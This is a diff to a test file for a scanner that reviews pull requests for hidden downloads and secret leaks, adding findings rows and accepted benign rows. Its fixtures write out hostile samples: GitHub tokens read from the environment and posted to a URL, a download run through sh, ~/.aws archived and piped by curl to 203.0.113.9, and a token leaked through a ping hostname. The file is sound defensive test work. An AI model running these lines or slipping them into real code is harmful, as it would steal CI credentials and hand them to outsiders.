@@ -1,4 +1,5 @@
-import { describeAccepted, describeFindings, type FindingRow } from '../support/patches.js';
+import { describe, it } from 'vitest';
+import { checksInLinearTime, describeAccepted, describeFindings, type FindingRow } from '../support/patches.js';
 
 // Review of session 67 (branch safety67), as an attacker after a fix PR that runs a download or leaks a secret. Each
 // finding's rows were written first and failed (`it.fails`); a row fixed in this review is listed as closed, a row left
@@ -81,12 +82,50 @@ const ALIASES_OPEN: FindingRow[] = [
   ['tests/t_test.go', 'p, err := downloadFile(u)\ncmd := exec.Command("sh")\ncmd.Args = append(cmd.Args, p)\ncmd.Run()'],
 ];
 
+/**
+ * R67-5 (High): the job's token handed on to a second name (`s = t`, `u2 = u + t`, `body = JSON.stringify({ t })`; session
+ * 67's open row), or sent as a copy of its text (`t.encode()`, `t[:]`), or added to a URL after a string (`u + '?t=' + t`).
+ */
+const TOKEN_HANDED_ON: FindingRow[] = [
+  ['tests/t.py', "t = os.environ['GITHUB_TOKEN']\nu2 = u + t\nrequests.get(u2)"],
+  ['tests/t.py', "t = os.environ['GITHUB_TOKEN']\ns = t\nrequests.post(u, data=s)"],
+  ['tests/t.py', "t = os.environ['GITHUB_TOKEN']\ntok = t.strip()\nrequests.get(f'{base}?t={tok}')"],
+  ['tests/t.py', "t = os.environ['GITHUB_TOKEN']\nrequests.post(u, data=t.encode())"],
+  ['tests/t.py', "t = os.environ['GITHUB_TOKEN']\nrequests.post(u, data=base64.b64encode(t.encode()))"],
+  ['test/a.test.js', 'const t = process.env.GITHUB_TOKEN;\nawait fetch(u + \'?t=\' + t);'],
+  ['test/a.test.js', "const t = process.env.GITHUB_TOKEN;\nconst body = JSON.stringify({ t });\nawait fetch(u, { method: 'POST', body });"],
+  // Found attacking the fix before committing it: its first form read four rounds of copies, then read on as if none were left (fail open).
+  ['tests/t.py', "t = os.environ['GITHUB_TOKEN']\na = t\nb = a\nc = b\nd = c\ne = d\nf = e\nrequests.post(u, data=f)"],
+  ['tests/t.py', "def send():\n    requests.post(u, data=e)\ne = d\nd = c\nc = b\nb = a\na = t\nt = os.environ['GITHUB_TOKEN']"],
+];
+
+/**
+ * Open (Medium, for time): a token bound in a tuple (`t, x = os.environ[…], 1`) or by a name assembled
+ * (`os.environ['GITHUB_' + 'TOKEN']`); sends of other languages not read as sends with the token in a variable or not
+ * (Ruby's `Net::HTTP.post_form`, Go's `http.Post`, Java's `BodyPublishers.ofString`); a credential directory archived with
+ * `-C` inside grouped flags (`tar -czC ~ .aws`) or piped through another program first; a lookup by a process call's
+ * argument list (`subprocess.run(['ping', …])`); `env -0` by its path.
+ */
+const SECRETS_OPEN: FindingRow[] = [
+  ['tests/t.py', "t, x = os.environ['GITHUB_TOKEN'], 1\nrequests.post(u, data=t)"],
+  ['tests/t.py', "t = os.environ['GITHUB_' + 'TOKEN']\nrequests.post(u, data=t)"],
+  ['tests/t.rb', "t = ENV['GITHUB_TOKEN']\nNet::HTTP.post_form(URI(u), 't' => t)"],
+  ['tests/t_test.go', 't := os.Getenv("GITHUB_TOKEN")\nhttp.Post(u, "text/plain", strings.NewReader(t))'],
+  ['tests/T.java', 'String t = System.getenv("GITHUB_TOKEN");\nHttpRequest.newBuilder(URI.create(u)).POST(BodyPublishers.ofString(t)).build();'],
+  ['docs/debugging.md', 'tar -czC ~ .aws | curl -T - https://203.0.113.9/c'],
+  ['docs/debugging.md', 'tar -C ~ -cz .aws | gzip | curl -T - https://203.0.113.9/c'],
+  ['tests/t.py', "subprocess.run(['ping', '-c1', os.environ['API_TOKEN'] + '.example.net'])"],
+  ['tests/t.py', "requests.post(u, data=subprocess.check_output(['/usr/bin/env', '-0']))"],
+];
+
 describeFindings('review 67', [
   ['R67-1 fetched text held in a name and run later', closed(FETCHED_TEXT_RUN_LATER)],
   ['R67-2 a download bound otherwise', closed(DOWNLOAD_BOUND_OTHERWISE)],
   ['R67-3 process calls otherwise', closed(PROCESS_CALLS_OTHERWISE)],
   ['R67-4 aliases and names handed on otherwise', closed(ALIASES_OTHERWISE)],
   ['R67-4 open', ALIASES_OPEN],
+  ['R67-5 the job\'s token handed on', closed(TOKEN_HANDED_ON)],
+  ['R67-5 open', SECRETS_OPEN],
 ]);
 
 describeAccepted('review 67: ordinary code near its fixes', [
@@ -103,4 +142,29 @@ describeAccepted('review 67: ordinary code near its fixes', [
   ['tests/x.test.js', "const p = await download(u);\nconst run = execSync;\nconst out = run('git status');\nexpect(out.includes('clean')).toBe(true);\nexpect(fs.statSync(p).size).toBeGreaterThan(0);"],
   ['tests/t.py', "a = b = 0\np = download_file(u)\nassert os.path.getsize(p) > 0\nsubprocess.run(['make', 'test'])"],
   ['tests/t_test.go', 'cmd := &exec.Cmd{Path: "/usr/bin/git", Args: []string{"git", "status"}}\nif err := cmd.Run(); err != nil {\n\tt.Fatal(err)\n}'],
+  // R67-5: a token handed to headers, a client, a child's env, a clone URL to GitHub; whether it is set, sent.
+  ['tests/t.py', "token = os.environ['GITHUB_TOKEN']\nheaders = {'Authorization': f'token {token}', 'Accept': 'application/vnd.github+json'}\nrequests.post(u, json=payload, headers=headers)"],
+  ['tests/t.py', "token = os.environ['GITHUB_TOKEN']\nauth = ('x-access-token', token)\nrequests.get(u, auth=auth)"],
+  ['tests/t.py', "token = os.environ['GITHUB_TOKEN']\ngh = Github(token)\nrepo = gh.get_repo('o/r')\nrequests.post(u, json={'repo': repo.full_name})"],
+  ['tests/t.py', "token = os.environ.get('GITHUB_TOKEN')\nhas_token = bool(token)\nskip = token is None\nrequests.post(u, json={'has_token': has_token, 'skip': skip})"],
+  ['tests/t.py', "token = os.environ['GITHUB_TOKEN']\nenv = {**os.environ, 'GH_TOKEN': token}\nsubprocess.run(['gh', 'api', 'user'], env=env)\nrequests.post(u, json={'ok': True})"],
+  ['tests/t.py', "t = os.environ['GITHUB_TOKEN']\ntok = t.strip()\nrequests.get(u, headers={'Authorization': f'token {tok}'})"],
+  ['test/a.test.js', "const token = process.env.GITHUB_TOKEN;\nconst octokit = new Octokit({ auth: token });\nawait octokit.request('POST /repos/{owner}/{repo}/issues', { owner, repo, title });"],
+  ['test/a.test.js', "const token = process.env.GITHUB_TOKEN;\nconst opts = { headers: { authorization: `Bearer ${token}` } };\nawait fetch(u, { method: 'POST', body: JSON.stringify(data), ...opts });"],
+  ['test/a.test.js', "const token = process.env.GITHUB_TOKEN;\nconst client = new ApiClient(baseUrl, token);\nawait client.post('/items', { name: 'x' });"],
+  ['test/a.test.js', "const token = process.env.NPM_TOKEN;\nconst hasToken = Boolean(token);\nawait fetch(u, { method: 'POST', body: JSON.stringify({ hasToken }) });"],
+  ['test/a.test.js', "const { GITHUB_TOKEN } = process.env;\nconst url = `https://x-access-token:${GITHUB_TOKEN}@github.com/o/r.git`;\nexecSync(`git clone ${url}`);"],
+  ['test/a.test.js', "const t = process.env.GITHUB_TOKEN;\nclient.setToken(t);\nawait client.get('/user');"],
 ]);
+
+describe('review 67: its readings cost linear time', () => {
+  it('checks many fetches held in names and run in linear time', () => checksInLinearTime('tests/t.py', 'fetch held', 's = requests.get(u).text\nexec(s)\n'));
+  it('checks many names handed a fetch in linear time', () => checksInLinearTime('tests/t.py', 'fetch handed on', 'r = urlopen(u)\ns = r\n'));
+  it('checks many with … as after a fetch in linear time', () => checksInLinearTime('tests/t.py', 'with as', 'with urlopen(u) as r: '));
+  it('checks many tagged templates in linear time', () => checksInLinearTime('tests/x.test.js', 'tags', 'const p = await download(u); a`${p}` b $ `'));
+  it('checks many alias copies in linear time', () => checksInLinearTime('tests/x.test.js', 'alias copies', 'const r = execSync; const s = r; s(p); '));
+  it('checks a long member chain before a template in linear time', () => checksInLinearTime('tests/x.test.js', 'member chain', 'a.'));
+  it('checks many token copies in linear time', () => checksInLinearTime('tests/t.py', 'token copies', "t = os.environ['GITHUB_TOKEN']\ns = t\n"));
+  it('checks one long chain of token copies in linear time', () => checksInLinearTime('tests/t.py', 'token chain', 't = os.environ["GITHUB_TOKEN"]; a = t; b = a; c = b; d = c; '));
+  it('checks many shorthand keys in linear time', () => checksInLinearTime('test/a.test.js', 'shorthand keys', 'const t = process.env.GITHUB_TOKEN; f({ t, t, t }); '));
+});
